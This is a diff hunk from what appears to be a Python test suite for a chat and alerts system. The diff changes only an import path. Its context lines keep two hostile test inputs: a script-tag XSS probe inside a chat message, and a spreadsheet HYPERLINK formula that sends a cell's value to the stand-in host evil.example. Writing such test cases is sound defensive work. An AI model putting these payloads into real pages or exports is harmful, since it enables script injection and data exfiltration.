@@ -24,7 +24,7 @@ from tests.alerts.test_alerts import DSL, file_concern
 from tests.support.harness import Chat
 from tests.support.reports import event_kinds, only_report
 from tests.support.walk import STAFF
-from tests.web.test_web_api import Socket, items, open_chat
+from tests.web.chat import Socket, items, open_chat
 
 SCRIPT = "<script>alert('x')</script> AB showed me messages in the class group chat."
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
